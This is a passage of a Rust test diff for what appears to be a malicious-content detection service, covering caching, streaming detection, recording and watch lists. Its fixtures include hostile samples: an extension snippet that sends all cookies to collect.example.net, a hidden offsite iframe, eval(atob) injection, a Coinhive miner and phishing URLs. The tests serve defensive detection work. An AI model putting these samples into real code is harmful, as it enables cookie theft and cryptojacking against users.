+        assert_eq!((&stats["cache_swept_expired"], &stats["cache_swept_stale"]), (&serde_json::json!(1), &serde_json::json!(0)));
+        let url: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(url["cached"], true);
+    }
+
+    #[actix_web::test]
+    async fn cache_sweep_keeps_entries_of_types_with_longer_ttls() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut settings = settings();
+        settings.cache_ttl_secs = 30;
+        settings.cache_ttl_secs_by_type.insert("url".to_string(), 300);
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        call_service(&app, detect("code", "console.log('hello')").to_request()).await;
+        call_service(&app, detect("url", "https://example.org/").to_request()).await;
+        assert_eq!(state.lock_cache().len(), 2);
+
+        clock.advance(Duration::from_secs(31));
+        actix_rt::spawn(sweep_cache(state.clone()));
+        until(|| state.lock_cache().len() == 1).await;
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        assert_eq!((&stats["cache_swept_expired"], &stats["cache_swept_stale"], &stats["cache_expired"]), (&serde_json::json!(1), &serde_json::json!(0), &serde_json::json!(0)));
+        let url: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(url["cached"], true);
+    }
+
+    #[actix_web::test]
+    async fn lookup_treats_an_entry_past_its_type_ttl_as_a_miss() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut settings = settings();
+        settings.cache_ttl_secs = 300;
+        settings.cache_ttl_secs_by_type.insert("url".to_string(), 10);
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        call_service(&app, detect("code", "console.log('hello')").to_request()).await;
+        call_service(&app, detect("url", "https://example.org/").to_request()).await;
+
+        clock.advance(Duration::from_secs(10));
+        let url: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        let code: serde_json::Value = read_body_json(call_service(&app, detect("code", "console.log('hello')").to_request()).await).await;
+        assert_eq!((&url["cached"], &code["cached"]), (&serde_json::json!(false), &serde_json::json!(true)));
+        // The expired entry was dropped on lookup and the fresh verdict cached in its place
+        assert_eq!(state.lock_cache().len(), 2);
+    }
+
+    #[actix_web::test]
+    async fn partial_detection_hints_on_complete_urls_and_never_caches_provisional_verdicts() {
+        let state = state(settings());
+        let app = app(&state).await;
+        let fragment = |seq: u64, text: &str, last: bool| {
+            let body = serde_json::json!({ "stream_id": "msg-1", "seq": seq, "fragment": text, "final": last });
+            TestRequest::post().uri("/api/detect/partial").set_json(body).to_request()
+        };
+
+        // The URL is still being typed: nothing to judge yet
+        let typing: serde_json::Value = read_body_json(call_service(&app, fragment(0, "Please verify at http://203.0.113.7/pay", false)).await).await;
+        assert_eq!((&typing["provisional"], &typing["is_threat"]), (&serde_json::json!(true), &serde_json::json!(false)));
+        assert!(typing.get("url_hints").is_none());
+        let hinted: serde_json::Value = read_body_json(call_service(&app, fragment(1, "pa1/login now ", false)).await).await;
+        assert_eq!((&hinted["provisional"], &hinted["verdict"]), (&serde_json::json!(true), &serde_json::json!("threat")));
+        assert_eq!(hinted["url_hints"][0]["url"], "http://203.0.113.7/paypa1/login");
+        assert_eq!(hinted["keywords"], serde_json::json!(["verify"]));
+        assert_eq!(state.lock_cache().len(), 0);
+
+        let last: serde_json::Value = read_body_json(call_service(&app, fragment(2, "or lose access", true)).await).await;
+        assert_eq!((&last["provisional"], &last["next_seq"]), (&serde_json::json!(false), &serde_json::json!(3)));
+        assert_eq!(state.lock_cache().len(), 1);
+        let full = "Please verify at http://203.0.113.7/paypa1/login now or lose access";
+        let replay: serde_json::Value = read_body_json(call_service(&app, detect("url", full).to_request()).await).await;
+        assert_eq!((&replay["cached"], &replay["verdict"]), (&serde_json::json!(true), &last["verdict"]));
+    }
+
+    #[actix_web::test]
+    async fn partial_streams_reorder_fragments_and_drop_abandoned_ones() {
+        let clock = Arc::new(clock::ManualClock::new());
+        let mut settings = settings();
+        settings.stream_capacity = 2;
+        settings.stream_max_pending_fragments = 2;
+        settings.stream_ttl_secs = 60;
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        let fragment = |id: &str, seq: u64, text: &str, last: bool| {
+            let body = serde_json::json!({ "stream_id": id, "seq": seq, "fragment": text, "final": last });
+            TestRequest::post().uri("/api/detect/partial").set_json(body).to_request()
+        };
+
+        // Out of order: held until the gap fills, then applied in sequence
+        let held: serde_json::Value = read_body_json(call_service(&app, fragment("a", 1, "world ", false)).await).await;
+        assert_eq!((&held["next_seq"], &held["pending_seqs"]), (&serde_json::json!(0), &serde_json::json!([1])));
+        let early = call_service(&app, fragment("a", 3, "!", true)).await;
+        assert_eq!(early.status(), 409);
+        let early: serde_json::Value = read_body_json(early).await;
+        assert_eq!(early["missing_seqs"], serde_json::json!([0, 2]));
+        assert_eq!(call_service(&app, fragment("a", 4, "?", false)).await.status(), 429);
+        let filled: serde_json::Value = read_body_json(call_service(&app, fragment("a", 0, "hello ", false)).await).await;
+        assert_eq!((&filled["next_seq"], &filled["pending_seqs"]), (&serde_json::json!(2), &serde_json::json!([3])));
+        let repeated: serde_json::Value = read_body_json(call_service(&app, fragment("a", 0, "hello ", false)).await).await;
+        assert_eq!((&repeated["duplicate"], &repeated["received_bytes"]), (&serde_json::json!(true), &serde_json::json!(13)));
+
+        // New streams evict the least recently updated one, which then
+        // starts over
+        call_service(&app, fragment("b", 0, "first ", false)).await;
+        call_service(&app, fragment("c", 0, "second ", false)).await;
+        assert_eq!(state.streams.stats().abandoned, 1);
+        let restarted: serde_json::Value = read_body_json(call_service(&app, fragment("a", 2, "again ", true)).await).await;
+        assert_eq!(restarted["missing_seqs"], serde_json::json!([0, 1]));
+        let stats = state.streams.stats();
+        assert_eq!((stats.active, stats.abandoned), (2, 2));
+
+        // Streams idle past the TTL are dropped on the next access
+        clock.advance(Duration::from_secs(61));
+        let stats = state.streams.stats();
+        assert_eq!((stats.active, stats.abandoned, stats.finished), (0, 4, 0));
+    }
+
+    #[actix_web::test]
+    async fn base64_webassembly_blob_is_an_embedded_binary_hit_with_high_severity() {
+        let app = app(&state(settings())).await;
+        let module = "const MODULE = 'AGFzbQEAAAAAAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYn';";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", module, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "embedded_binary"), "hit");
+        assert!(reasons(&body).contains(&"Embedded executable (WebAssembly)"));
+        assert_eq!((&body["is_threat"], &body["severity"]), (&serde_json::json!(true), &serde_json::json!("high")));
+
+        let elf: serde_json::Value = read_body_json(call_service(&app, explain("code", "payload = b'\\x7fELF\\x02\\x01\\x01'", None).to_request()).await).await;
+        assert!(reasons(&elf).contains(&"Embedded executable (ELF)"));
+
+        let clean = "const data = btoa(JSON.stringify({ user: 'ada', theme: 'dark', language: 'en-GB', notifications: true }));";
+        let clean: serde_json::Value = read_body_json(call_service(&app, explain("code", clean, None).to_request()).await).await;
+        assert_eq!(outcome(&clean, "embedded_binary"), "pass");
+        assert_eq!(clean["is_threat"], false);
+    }
+
+    #[actix_web::test]
+    async fn explain_trace_spans_point_into_decoded_layers_and_never_split_characters() {
+        let app = app(&state(settings())).await;
+        let module = "const MODULE = 'AGFzbQEAAAAAAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYn';";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", module, None).to_request()).await).await;
+        let trace = body["trace"].as_array().unwrap();
+        let stage = trace.iter().find(|t| t["stage"] == "embedded_binary").unwrap();
+        assert_eq!(
+            stage["spans"][0],
+            serde_json::json!({
+                "offset": 0,
+                "length": 4,
+                "excerpt": "\\x00asm\\x01\\x00\\x00\\x00\\x00",
+                "marker": "^^^^^^^",
+                "layer": { "kind": "base64", "offset": 16, "length": 64 },
+            })
+        );
+
+        let content = "// prévisualisation\ndocument.write('<script>eval(atob(x))</script>');";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", content, None).to_request()).await).await;
+        let spans: Vec<&serde_json::Value> = body["trace"].as_array().unwrap().iter().flat_map(|t| t["spans"].as_array().into_iter().flatten()).collect();
+        assert!(!spans.is_empty());
+        for span in spans {
+            let (offset, length) = (span["offset"].as_u64().unwrap() as usize, span["length"].as_u64().unwrap() as usize);
+            assert!(content.is_char_boundary(offset) && content.is_char_boundary(offset + length));
+            assert!(span["excerpt"].as_str().unwrap().is_ascii());
+        }
+    }
+
+    #[actix_web::test]
+    async fn recorder_writes_replayable_ndjson_and_redacts_on_request() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let recording = settings.data_dir.join("recording.ndjson");
+        settings.recorder_path = Some(recording.clone());
+        settings.recorder_sample_rate = 1.0;
+        let hashed = settings.data_dir.join("hashed.ndjson");
+        let hashing = state(Settings { recorder_path: Some(hashed.clone()), recorder_redaction: recorder::Redaction::Hash, ..settings.clone() });
+        let state = state(settings);
+        let (app, service) = (app(&state).await, app(&hashing).await);
+        let threat: serde_json::Value = read_body_json(call_service(&app, detect("code", "<script>eval(atob(x))</script>").to_request()).await).await;
+        let batch = serde_json::json!({ "threats": [{ "threat_type": "url", "content": "https://example.org/" }] });
+        call_service(&app, TestRequest::post().uri("/api/detect/batch").set_json(batch).to_request()).await;
+        state.recorder.flush();
+
+        let lines: Vec<serde_json::Value> = std::fs::read_to_string(&recording)
+            .unwrap()
+            .lines()
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect();
+        assert_eq!(lines.iter().map(|l| l["route"].as_str().unwrap()).collect::<Vec<_>>(), ["/api/detect", "/api/detect/batch"]);
+        assert_eq!(state.statistics().recorder.map(|r| (r.recorded, r.dropped)), Some((2, 0)));
+        assert_eq!(lines[0]["response"]["reasons"], threat["reasons"]);
+        // The recorded request replays to the recorded verdict
+        let replay = TestRequest::post().uri("/api/detect").set_json(&lines[0]["request"]).to_request();
+        let replayed: serde_json::Value = read_body_json(call_service(&app, replay).await).await;
+        assert_eq!(replayed["verdict"], lines[0]["response"]["verdict"]);
+        assert_eq!(replayed["confidence"].as_f64().map(|c| c as f32), lines[0]["response"]["confidence"].as_f64().map(|c| c as f32));
+
+        call_service(&service, explain("code", "<script>eval(atob(x))</script>", Some("from a mail")).to_request()).await;
+        hashing.recorder.flush();
+        let line: serde_json::Value = serde_json::from_str(std::fs::read_to_string(&hashed).unwrap().trim_end()).unwrap();
+        let content = line["request"]["content"].as_str().unwrap();
+        assert!(content.starts_with("sha256:") && content.len() == "sha256:".len() + 64);
+        assert!(line["request"]["context"].as_str().unwrap().starts_with("sha256:"));
+        assert!(line["response"]["reasons"].as_array().unwrap().iter().all(|r| r.as_str().unwrap().starts_with("sha256:")));
+        assert!(line["response"].get("trace").is_none());
+        assert!(!line.to_string().contains("eval"));
+    }
+
+    #[actix_web::test]
+    async fn response_policy_follows_the_tenant_and_keeps_cached_detail() {
+        let mut settings = settings();
+        let suppress = policy::ResponsePolicy { detail: policy::Detail::Suppress, ..Default::default() };
+        settings.response_policies.insert("restricted".to_string(), suppress);
+        settings.response_policies.insert("analyst".to_string(), policy::ResponsePolicy::default());
+        settings.default_response_policy = Some("restricted".to_string());
+        let analyst = config::TenantSettings { response_policy: Some("analyst".to_string()), ..Default::default() };
+        settings.tenants.insert("analyst".to_string(), analyst);
+        let state = state(settings);
+        let app = app(&state).await;
+        let url = "http://paypa1-verify.example.tk/login?confirm=1";
+
+        let restricted: serde_json::Value = read_body_json(call_service(&app, detect("url", url).to_request()).await).await;
+        assert_eq!(restricted["cached"], false);
+        assert_eq!(restricted["reasons"], serde_json::json!([]));
+
+        let req = detect("url", url).insert_header(("X-Tenant-Id", "analyst"));
+        let full: serde_json::Value = read_body_json(call_service(&app, req.to_request()).await).await;
+        assert_eq!(full["is_threat"], restricted["is_threat"]);
+        assert!(!full["reasons"].as_array().unwrap().is_empty());
+
+        let again: serde_json::Value = read_body_json(call_service(&app, detect("url", url).to_request()).await).await;
+        assert_eq!(again["cached"], true);
+        assert_eq!(again["reasons"], serde_json::json!([]));
+    }
+
+    #[actix_web::test]
+    async fn zero_size_offsite_iframe_is_a_hidden_frame_hit() {
+        let app = app(&state(settings())).await;
+        let page = Some("https://shop.example.com/checkout");
+        let hidden = r#"<p>Thanks for your order</p><iframe src="https://drop.evil-example.net/x" width="0" height="0"></iframe>"#;
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", hidden, page).to_request()).await).await;
+        assert_eq!((outcome(&body, "offsite_frame"), outcome(&body, "hidden_frame")), ("hit", "hit"));
+        assert!(reasons(&body).contains(&"Hidden frame loading drop.evil-example.net (iframe)"));
+
+        let visible = r#"<object data="https://cdn.partner-example.org/widget.swf" width="300" height="200"></object>"#;
+        let shown: serde_json::Value = read_body_json(call_service(&app, explain("code", visible, page).to_request()).await).await;
+        assert_eq!((outcome(&shown, "offsite_frame"), outcome(&shown, "hidden_frame")), ("hit", "pass"));
+        assert!(body["confidence"].as_f64() > shown["confidence"].as_f64());
+
+        let same_site = r#"<iframe src="https://static.example.com/track" width="0" height="0"></iframe>"#;
+        let own: serde_json::Value = read_body_json(call_service(&app, explain("code", same_site, page).to_request()).await).await;
+        assert_eq!((outcome(&own, "offsite_frame"), outcome(&own, "hidden_frame")), ("pass", "pass"));
+    }
+
+    #[test]
+    fn parallel_and_sequential_dispatch_merge_to_the_strongest_detector() {
+        let polyglot = format!("GIF89a/*\u{1}\u{0}*/=1;<script>eval(atob('YWxlcnQoMSk='))</script>{}", " ".repeat(64));
+        let req = request("url", &polyglot);
+        let verdicts: Vec<ThreatDetectionResponse> = [1, 0]
+            .into_iter()
+            .map(|min_bytes| {
+                let state = state(Settings { parallel_detect_min_bytes: min_bytes, ..settings() });
+                let (thresholds, pipelines) = (state.thresholds.read().unwrap(), state.pipelines.read().unwrap().clone());
+                let ctx = state.detection_context(None, None, &thresholds, None, &pipelines);
+                run_detectors(&req, &ctx)
+            })
+            .collect();
+        let (parallel, sequential) = (&verdicts[0], &verdicts[1]);
+        assert_eq!(
+            (parallel.is_threat, &parallel.severity, parallel.confidence, &parallel.reasons, &parallel.threat_type),
+            (sequential.is_threat, &sequential.severity, sequential.confidence, &sequential.reasons, &sequential.threat_type)
+        );
+
+        let state = state(settings());
+        let (thresholds, pipelines) = (state.thresholds.read().unwrap(), state.pipelines.read().unwrap().clone());
+        let ctx = state.detection_context(None, None, &thresholds, None, &pipelines);
+        let strongest = ["url", "code"].into_iter().map(|t| detect_with_fallback(t, &req, &ctx)).max_by_key(verdict_rank).unwrap();
+        assert_eq!(verdict_rank(parallel), verdict_rank(&strongest));
+        assert_eq!(parallel.threat_type, "malware");
+        assert_eq!(parallel.reasons[..parallel.reasons.len() - 1], strongest.reasons[..]);
+    }
+
+    #[actix_web::test]
+    async fn async_enrichment_answers_at_once_and_delivers_the_merged_verdict_by_id() {
+        // Generous enough for a resolver that retries after its own 5s timeout
+        let state = state(Settings { unresolvable_host_weight: 0.5, enrichment_timeout_ms: 30_000, ..settings() });
+        let app = app(&state).await;
+        let url = "https://secure-login.invalid/account";
+        let enriched = |mode: &str| {
+            TestRequest::post().uri("/api/detect").set_json(serde_json::json!({ "threat_type": "url", "content": url, "enrich": mode }))
+        };
+        let mut events = state.enrichments.subscribe();
+        let first: serde_json::Value = read_body_json(call_service(&app, enriched("async").to_request()).await).await;
+        assert_eq!((&first["enrichment_pending"], &first["verdict"]), (&serde_json::json!(true), &serde_json::json!("safe")));
+        let id = first["detection_id"].as_str().unwrap().to_string();
+
+        let published = tokio::time::timeout(Duration::from_secs(60), events.recv()).await.unwrap().unwrap();
+        assert_eq!((published.detection_id.as_str(), published.changed), (id.as_str(), Some(true)));
+        let detection: serde_json::Value =
+            read_body_json(call_service(&app, TestRequest::get().uri(&format!("/api/detections/{}", id)).to_request()).await).await;
+        assert_eq!((&detection["status"], &detection["changed"]), (&serde_json::json!("complete"), &serde_json::json!(true)));
+        assert_eq!(detection["response"]["verdict"], "needs_review");
+        assert!(detection["response"].get("enrichment_pending").is_none());
+        assert!(reasons(&detection["response"]).contains(&"Host secure-login.invalid does not resolve"));
+        let unknown = call_service(&app, TestRequest::get().uri("/api/detections/0123456789abcdef").to_request()).await;
+        assert_eq!(unknown.status(), 404);
+
+        // The enriched verdict replaced the cached heuristic one
+        let cached: serde_json::Value = read_body_json(call_service(&app, enriched("wait").to_request()).await).await;
+        assert_eq!((&cached["cached"], &cached["enriched"], &cached["verdict"]), (&serde_json::json!(true), &serde_json::json!(true), &serde_json::json!("needs_review")));
+        let stats = state.enrichments.stats();
+        assert_eq!((stats.enriched, stats.changed, stats.pending), (1, 1, 0));
+    }
+
+    #[actix_web::test]
+    async fn compare_counts_agreement_and_which_way_the_candidate_leans() {
+        let mut settings = Settings { compare_stats: true, ..settings() };
+        let weighted = |threat_type: &str, weight: f32| -> Vec<pipeline::StageConfig> {
+            settings.pipelines[threat_type].iter().map(|s| pipeline::StageConfig { weight: Some(weight), ..s.clone() }).collect()
+        };
+        let (url, code) = (weighted("url", 1.0), weighted("code", 0.01));
+        settings.candidate_pipelines.insert("url".to_string(), url);
+        settings.candidate_pipelines.insert("code".to_string(), code);
+        let state = state(settings);
+        let app = app(&state).await;
+        let compare = |threat_type: &str, content: &str| {
+            let body = serde_json::json!({ "threat_type": threat_type, "content": content });
+            TestRequest::post().uri("/api/detect/compare").set_json(body).to_request()
+        };
+
+        for (threat_type, content, agree) in [
+            ("url", "https://www.wikipedia.org/", true),
+            ("url", "http://192.168.13.37/admin/login.php", false),
+            ("code", "<script>eval(atob(x))</script>", false),
+            ("code", "def add(a, b):\n    return a + b\n", true),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, compare(threat_type, content)).await).await;
+            assert_eq!(body["agree"], agree, "{}", content);
+        }
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        assert_eq!(
+            stats["ruleset_agreement"],
+            serde_json::json!({
+                "compared": 4,
+                "agreed": 2,
+                "candidate_stricter": 1,
+                "candidate_looser": 1,
+                "by_type": { "code": { "compared": 2, "agreed": 1 }, "url": { "compared": 2, "agreed": 1 } },
+            })
+        );
+    }
+
+    #[actix_web::test]
+    async fn deeply_nested_brackets_are_flagged_past_the_configured_limit() {
+        let app = app(&state(Settings { max_nesting_depth: 32, ..settings() })).await;
+        let nested = format!("{{\"a\":{}1{}}}", "[".repeat(40), "]".repeat(40));
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", &nested, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "deep_nesting"), "hit");
+        assert!(reasons(&body).contains(&"Excessive nesting depth (41 > 32)"));
+        let trace = body["trace"].as_array().unwrap();
+        let stage = trace.iter().find(|t| t["stage"] == "deep_nesting").unwrap();
+        assert_eq!(stage["spans"][0]["offset"], 36);
+
+        let shallow = format!("{{\"a\":{}1{}}}", "[".repeat(31), "]".repeat(31));
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", &shallow, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "deep_nesting"), "pass");
+        // Stray closing brackets do not hide the depth of what follows
+        let unbalanced = format!("]]]]{}", "(".repeat(33));
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", &unbalanced, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "deep_nesting"), "hit");
+    }
+
+    #[actix_web::test]
+    async fn engine_state_hash_is_stable_across_restarts_and_follows_rule_changes() {
+        let mut settings = settings();
+        settings.lists.blocklist = vec!["b.example".to_string(), "a.example".to_string()];
+        let mut permuted = settings.clone();
+        permuted.lists.blocklist.reverse();
+        let hash = |state: &web::Data<AppState>| state.engine_state().engine_state_hash.clone();
+        let (first, restarted, reordered) = (state(settings.clone()), state(settings), state(permuted));
+        let original = hash(&first);
+        assert_eq!((hash(&restarted), hash(&reordered)), (original.clone(), original.clone()));
+
+        let app = app(&first).await;
+        let served: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(served["engine_state_hash"], original);
+
+        let body = serde_json::json!({ "threat": 0.1, "critical": 0.15, "high": 0.12, "medium": 0.11 });
+        assert_eq!(call_service(&app, TestRequest::put().uri("/api/admin/thresholds/url").set_json(body).to_request()).await.status(), 200);
+        let changed = hash(&first);
+        assert_ne!(changed, original);
+        let served: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(served["engine_state_hash"], changed);
+
+        // Earlier states stay retrievable, and a reset returns to the original hash
+        let manifest: serde_json::Value =
+            read_body_json(call_service(&app, TestRequest::get().uri(&format!("/api/admin/state/{}", original)).to_request()).await).await;
+        assert_eq!(manifest["engine_state_hash"], original);
+        let names: Vec<&str> = manifest["artifacts"].as_array().unwrap().iter().map(|a| a["name"].as_str().unwrap()).collect();
+        assert!(names.windows(2).all(|pair| pair[0] < pair[1]));
+        assert!(["lists/global", "settings", "thresholds"].iter().all(|name| names.contains(name)));
+        let unknown = call_service(&app, TestRequest::get().uri(&format!("/api/admin/state/{}", "0".repeat(64))).to_request()).await;
+        assert_eq!(unknown.status(), 404);
+        call_service(&app, TestRequest::post().uri("/api/admin/thresholds/url/reset").to_request()).await;
+        assert_eq!(hash(&first), original);
+    }
+
+    #[actix_web::test]
+    async fn ruleset_version_change_misses_verdicts_cached_under_the_old_one() {
+        let state = state(Settings { ruleset_version: "2026.10.1".to_string(), ..settings() });
+        let app = app(&state).await;
+        let cached = || async {
+            let body: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+            body["cached"].as_bool().unwrap()
+        };
+        assert!(!cached().await);
+        assert!(cached().await);
+
+        // As a pipelines reload installs it, without a rules generation bump
+        *state.ruleset_version.write().unwrap() = "2026.10.2".to_string();
+        assert!(!cached().await);
+        assert!(cached().await);
+        assert_eq!(state.lock_cache().len(), 2);
+        let stats = state.statistics();
+        assert_eq!((stats.cache_hits, stats.cache_misses), (2, 2));
+
+        // The sweep drops what the old version left behind
+        let generation = state.rules_generation.load(Ordering::SeqCst);
+        let swept = cache::sweep(&mut state.lock_cache(), &state.settings, "2026.10.2", generation, state.clock.now());
+        assert_eq!((swept.stale, swept.expired), (1, 0));
+        assert!(cached().await);
+    }
+
+    #[actix_web::test]
+    async fn watch_polls_wake_on_a_changed_verdict_and_time_out_empty() {
+        let phishing = "https://shop.example.org/invoice";
+        let forced = config::VerdictOverride { is_threat: true, severity: "critical".to_string(), confidence: None };
+        let state = state(Settings {
+            overrides: HashMap::from([(hash_string(phishing), forced)]),
+            watch_max_indicators: 2,
+            ..settings()
+        });
+        let app = app(&state).await;
+        let watch = |indicators: serde_json::Value| TestRequest::post().uri("/api/watch").set_json(serde_json::json!({ "indicators": indicators }));
+
+        let added: serde_json::Value = read_body_json(call_service(&app, watch(serde_json::json!([{ "kind": "domain", "value": "Shop.Example.org." }])).to_request()).await).await;
+        assert_eq!(added["added"], 1);
+        assert_eq!(added["watching"][0]["value"], "shop.example.org");
+        let registered = added["watching"][0]["last"]["verdict"].clone();
+        assert_ne!(registered, "threat");
+
+        // Nothing changes: an empty answer once the timeout passes
+        let started = std::time::Instant::now();
+        let empty: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/watch/poll?timeout=200ms").to_request()).await).await;
+        assert!(started.elapsed() >= Duration::from_millis(200));
+        assert_eq!(empty["changes"], serde_json::json!([]));
+        let cursor = empty["cursor"].as_u64().unwrap();
+
+        // A detection on the domain changes its verdict and wakes the poll well before its timeout
+        let started = std::time::Instant::now();
+        let poll = call_service(&app, TestRequest::get().uri(&format!("/api/watch/poll?timeout=30s&cursor={}", cursor)).to_request());
+        let served = async {
+            tokio::time::sleep(Duration::from_millis(100)).await;
+            call_service(&app, detect("url", phishing).to_request()).await
+        };
+        let (polled, _) = futures::join!(poll, served);
+        let polled: serde_json::Value = read_body_json(polled).await;
+        assert!(started.elapsed() < Duration::from_secs(10));
+        let changes = polled["changes"].as_array().unwrap();
+        assert_eq!(changes.len(), 1);
+        assert_eq!(changes[0]["value"], "shop.example.org");
+        assert_eq!(changes[0]["verdict"], "threat");
+        assert_eq!(changes[0]["previous"], registered);
+        assert_eq!(changes[0]["source"], "detection");
+        assert_eq!(polled["cursor"], changes[0]["seq"]);
+
+        // Capped per key; nothing from the rejected request is kept
+        let over = watch(serde_json::json!([
+            { "kind": "url", "value": "https://a.example.com/" },
+            { "kind": "url", "value": "https://b.example.com/" },
+        ]));
+        assert_eq!(call_service(&app, over.to_request()).await.status(), 422);
+        assert_eq!(state.watches.list("client:unknown").len(), 1);
+        let invalid = watch(serde_json::json!([{ "kind": "hash", "value": "abc" }]));
+        assert_eq!(call_service(&app, invalid.to_request()).await.status(), 400);
+        let bad_timeout = TestRequest::get().uri("/api/watch/poll?timeout=soon").to_request();
+        assert_eq!(call_service(&app, bad_timeout).await.status(), 400);
+
+        // The list and its last verdict survive a restart
+        state.watches.flush();
+        let restarted = WatchStore::load(&state.settings.data_dir, 2, 10, Duration::from_secs(60), state.clock.clone()).unwrap();
+        let watching = restarted.list("client:unknown");
+        assert_eq!(watching.len(), 1);
+        assert_eq!(watching[0].last.as_ref().map(|a| a.verdict), Some(thresholds::Verdict::Threat));
+    }
+
+    #[actix_web::test]
+    async fn watch_lists_belong_to_the_api_key_and_new_keys_get_503_when_full() {
+        const KEYS: [&str; 2] = ["k-watch-0001", "k-watch-0002"];
+        let state = state(Settings { api_keys: KEYS.map(str::to_string).to_vec(), watch_max_keys: 1, ..settings() });
+        let app = app(&state).await;
+        let watch = |key: &str, domain: &str| {
+            TestRequest::post()
+                .uri("/api/watch")
+                .insert_header(("X-Api-Key", key))
+                .insert_header(("X-Tenant-Id", "acme"))
+                .set_json(serde_json::json!({ "indicators": [{ "kind": "domain", "value": domain }] }))
+        };
+        let list = |key: &str| TestRequest::get().uri("/api/watch").insert_header(("X-Api-Key", key)).insert_header(("X-Tenant-Id", "acme"));
+
+        assert_eq!(call_service(&app, watch(KEYS[0], "a.example").to_request()).await.status(), 200);
+        // Same tenant header, another key: neither its list nor a place of its own
+        let other: serde_json::Value = read_body_json(call_service(&app, list(KEYS[1]).to_request()).await).await;
+        assert_eq!(other, serde_json::json!([]));
+        assert_eq!(call_service(&app, watch(KEYS[1], "b.example").to_request()).await.status(), 503);
+        let own: serde_json::Value = read_body_json(call_service(&app, list(KEYS[0]).to_request()).await).await;
+        assert_eq!(own.as_array().map(Vec::len), Some(1));
+    }
+
+    #[actix_web::test]
+    async fn extension_cookie_exfiltration_outweighs_traffic_access_and_tab_bookkeeping_passes() {
+        let app = app(&state(settings())).await;
+        let exfil = "chrome.cookies.getAll({}, (cookies) => {\n  fetch('https://collect.example.net/c', { method: 'POST', body: JSON.stringify(cookies) });\n});";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", exfil, None).to_request()).await).await;
+        assert_eq!((outcome(&body, "extension_apis"), outcome(&body, "extension_exfiltration")), ("hit", "hit"));
+        assert!(reasons(&body).contains(&"Uses invasive extension APIs (cookies)"), "{:?}", body["reasons"]);
+        assert!(reasons(&body).contains(&"Extension reads cookies or requests alongside a network send"), "{:?}", body["reasons"]);
+        assert_eq!(body["is_threat"], true);
+        let exfil_confidence = body["confidence"].as_f64().unwrap();
+
+        // Watching traffic without sending anything is invasive, but less so
+        let watcher = "chrome.webRequest.onBeforeRequest.addListener((details) => { console.log(details.url); }, { urls: ['<all_urls>'] });";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", watcher, None).to_request()).await).await;
+        assert_eq!((outcome(&body, "extension_apis"), outcome(&body, "extension_exfiltration")), ("hit", "pass"));
+        assert!(reasons(&body).contains(&"Uses invasive extension APIs (webRequest)"), "{:?}", body["reasons"]);
+        assert!(body["confidence"].as_f64().unwrap() < exfil_confidence);
+
+        let benign = "chrome.action.onClicked.addListener(() => {\n  chrome.tabs.create({ url: chrome.runtime.getURL('options.html') });\n});";
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", benign, None).to_request()).await).await;
+        assert_eq!((outcome(&body, "extension_apis"), outcome(&body, "extension_exfiltration")), ("pass", "pass"));
+        assert_eq!(body["is_threat"], false);
+    }
+
+    #[actix_web::test]
+    async fn cryptominers_are_flagged_and_ordinary_hashing_is_not() {
+        let custom = state(Settings { cryptominer_names: vec!["Mine Pool".to_string()], ..settings() });
+        let (app, custom) = (app(&state(settings())).await, app(&custom).await);
+        for (miner, reason) in [
+            (
+                r#"<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("SITE_KEY").start();</script>"#,
+                "Possible cryptojacking (miner coinhive)",
+            ),
+            (
+                r#"for (let i = 0; i < navigator.hardwareConcurrency; i++) { const w = new Worker("w.js"); w.onmessage = e => socket.send(JSON.stringify({ job_id: e.data.job, nonce: e.data.nonce })); }"#,
+                "Possible cryptojacking (worker mining loop)",
+            ),
+            (
+                r#"while (true) { nonce++; const h = await crypto.subtle.digest("SHA-256", encode(block + nonce)); }"#,
+                "Possible cryptojacking (hashing in an unbounded loop)",
+            ),
+        ] {
+            let body: serde_json::Value = read_body_json(call_service(&app, explain("code", miner, None).to_request()).await).await;
+            assert_eq!(outcome(&body, "cryptominer"), "hit", "{}", miner);
+            assert!(reasons(&body).contains(&reason), "{:?}", body["reasons"]);
+        }
+
+        for benign in [
+            r#"for (const chunk of chunks) { digests.push(await crypto.subtle.digest("SHA-256", chunk)); }"#,
+            r#"const worker = new Worker("resize.js"); worker.postMessage({ width: 640, height: 480 });"#,
